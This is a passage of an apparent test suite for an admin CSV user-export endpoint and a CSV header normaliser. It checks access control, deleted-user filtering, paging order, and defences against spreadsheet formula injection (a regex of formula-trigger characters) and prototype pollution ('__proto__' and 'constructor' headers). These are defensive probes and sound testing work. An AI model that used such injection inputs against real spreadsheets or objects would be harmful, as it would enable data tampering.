    expect(records).toHaveLength(4 + tricky.length);
    expect(records.some((r) => r.email!.endsWith(theirs.domain))).toBe(false);
    const expected = (name: string) => (/^[=+\-@\t\r\n\0]/.test(name) ? `'${name}` : name);
    tricky.forEach((name, i) => expect(byEmail.get(emails[i]!)!.full_name).toBe(expected(name)));
    expect(byEmail.get(emails[0]!)).toMatchObject({ manager_email: mine.manager.email, team: 'Core', permission_level: 'MEMBER', status: 'ACTIVE', role: '' });
    // No cell of the export starts with a formula trigger.
    for (const r of records) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r\n\0]/);
  });

  it('includes deleted users only on request, and refuses anonymous and member callers', async () => {
    const { admin, member, report, domain } = await freshOrg();
    sqlite().prepare("UPDATE users SET deleted_at = '2025-02-02T00:00:00Z' WHERE id = ?").run(report.id);
    const plain = parse((await get(admin.token, '/api/admin/users/export.csv')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(plain.map((r) => r.email)).not.toContain(report.email);
    const all = parse((await get(admin.token, '/api/admin/users/export.csv?includeDeleted=true')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(all.find((r) => r.email === report.email)).toMatchObject({ deleted_at: '2025-02-02T00:00:00Z' });
    expect(all.every((r) => r.email!.endsWith(`@${domain}`))).toBe(true);
    expect((await get(null, '/api/admin/users/export.csv')).statusCode).toBe(401);
    const memberCaller = await signedIn(app, member.email);
    expect((await get(memberCaller.token, '/api/admin/users/export.csv')).statusCode).toBe(403);
    expect((await get(memberCaller.token, '/api/admin/users/import-template.csv')).statusCode).toBe(403);
  });

  it('pages through a large organization in order', async () => {
    const { admin, domain } = await freshOrg();
    const rows = Array.from({ length: 2_345 }, (_, i) => ({ email: `bulk${String(i).padStart(5, '0')}@${domain}`, full_name: `Bulk ${i}` }));
    expect(result(await massCreate(admin, rows)).count).toBe(2_345);
    const records = parse((await get(admin.token, '/api/admin/users/export.csv')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(records).toHaveLength(2_345 + 4);
    const emails = records.map((r) => r.email!);
    expect(emails).toEqual([...emails].sort());
    expect(new Set(emails).size).toBe(emails.length);
  });

  it('serves the import template: the header plus one example row', async () => {
    const { admin } = await freshOrg();
    const res = await get(admin.token, '/api/admin/users/import-template.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".*\.csv"$/);
    const records = parse(res.body, { bom: true }) as string[][];
    expect(records).toHaveLength(2);
    expect(records[0]).toEqual([...CSV_COLUMNS]);
    expect(records[1]).toHaveLength(CSV_COLUMNS.length);
  });
});

describe('header normaliser', () => {
  it('matches header names case-insensitively, tolerating spaces, underscores and dashes', () => {
    const cases: Array<[string, string | null]> = [
      ['Email', 'email'], ['E-mail', 'email'], ['Email Address', 'email'], [' EMAIL_ADDRESS ', 'email'],
      ['Full Name', 'full_name'], ['full_name', 'full_name'], ['FULL-NAME', 'full_name'], ['Name', 'full_name'], ['fullname', 'full_name'],
      ['Manager', 'manager_email'], ['manager email', 'manager_email'], ['Team Name', 'team'], ['Permission', 'permission_level'],
      ['Job Title', 'role'], ['Time Zone', 'time_zone'], ['timezone', 'time_zone'], ['\uFEFFemail', 'email'],
      ['Favourite colour', null], ['__proto__', null], ['constructor', null],
    ];
    for (const [header, column] of cases) expect(normalizeCsvHeader(header), header).toBe(column);
  });
});
